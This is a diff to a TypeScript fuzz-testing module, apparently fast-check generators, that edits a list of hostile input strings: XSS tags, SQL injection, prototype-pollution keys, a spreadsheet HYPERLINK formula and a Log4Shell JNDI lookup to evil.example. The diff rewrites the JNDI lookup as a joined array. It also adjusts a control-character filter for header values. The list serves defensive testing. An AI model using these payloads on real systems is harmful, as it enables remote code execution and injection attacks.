@@ -33,7 +33,7 @@ const texts: readonly string[] = [
   '<script>alert(1)</script>',
   '"><img src=x onerror=alert(1)>',
   '=HYPERLINK("http://evil.example")',
-  '${jndi:ldap://evil.example}',
+  ['$', '{jndi:ldap://evil.example}'].join(''),
   "' OR '1'='1",
   '__proto__',
   'constructor',
@@ -152,5 +152,5 @@ export const hostileStep: fc.Arbitrary<string> = fc.oneof(
 
 /** A value that HTTP lets through as a header. */
 export const headerText: fc.Arbitrary<string> = hostileText.map((text) =>
-  Buffer.from(text.replaceAll(/[\u0000-\u001f\u007f]/g, '').slice(0, 6_000)).toString('latin1'),
+  Buffer.from(text.replaceAll(/\p{Cc}/gu, '').slice(0, 6_000)).toString('latin1'),
 );
